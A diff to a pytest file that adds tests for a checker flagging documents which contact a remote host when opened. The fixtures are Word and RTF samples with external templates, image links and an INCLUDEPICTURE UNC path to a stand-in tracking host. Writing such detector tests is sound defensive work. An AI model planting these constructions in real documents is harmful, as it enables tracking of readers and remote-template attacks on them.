@@ -21,6 +21,7 @@ from tests.evidence_files import (
     Made,
     compound,
     mail,
+    packed,
     pages,
     saved,
     text_pdf,
@@ -140,3 +141,52 @@ def test_what_cannot_be_shown_says_so(kind: str) -> None:
     content = {"heic": saved("HEIF")()[:300], "tiff": pages()()[:40]}.get(kind, b"\xff\xd8\xff\0\0\0\0")
     with pytest.raises(EvidenceError, match="请下载原件"):
         view_of(content, kind)
+
+
+def remote_word(target: str, kind: str = "attachedTemplate") -> bytes:
+    """A document that fetches its template, or a picture, when it is opened."""
+    place = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    one = f'<Relationship Id="a" Type="{place}/{kind}" Target="{target}" TargetMode="External"/>'
+    listed = f'<Relationships xmlns="r">{one}</Relationships>'
+    parts = {
+        "[Content_Types].xml": b"<Types/>",
+        "word/document.xml": b"<d/>",
+        "word/_rels/settings.xml.rels": listed.encode(),
+    }
+    return packed(parts)
+
+
+FETCHING = remote_word("https://track.example/a.dotm")
+
+
+@pytest.mark.parametrize(
+    ("content", "flags"),
+    [
+        (FETCHING, ("remote",)),
+        (remote_word("https://track.example/a.png", "image"), ("remote",)),
+        (remote_word("https://example.cn/", "hyperlink"), ()),
+        (packed({"合同.docx": FETCHING}), ("remote",)),
+        (packed({"页面.txt": "<!doctype html><html>活动".encode()}), ("web_page",)),
+        (packed({"页面.html": b"text"}), ("web_page",)),
+        (packed({"再包.zip": packed({"a.txt": b"a"})}), ("nested",)),
+        (packed({"a.tar.gz": b"\x1f\x8b\x08\0" + b"\0" * 20}), ("nested",)),
+        (packed({"a.txt": "聊天记录".encode()}), ()),
+        (rb"{\rtf1{\*\template http://track.example/a.dotm}x}", ("remote",)),
+        (rb"{\rtf1{\field{\*\fldinst INCLUDEPICTURE \\\\track.example\\a}}}", ("remote",)),
+    ],
+    ids=[
+        "template",
+        "picture",
+        "link",
+        "in a zip",
+        "page",
+        "ending",
+        "nested",
+        "nested tar",
+        "plain",
+        "rtf",
+        "rtf field",
+    ],
+)
+def test_what_would_tell_on_whoever_opens_it_is_said(content: bytes, flags: tuple[str, ...]) -> None:
+    assert checked(content).flags == flags
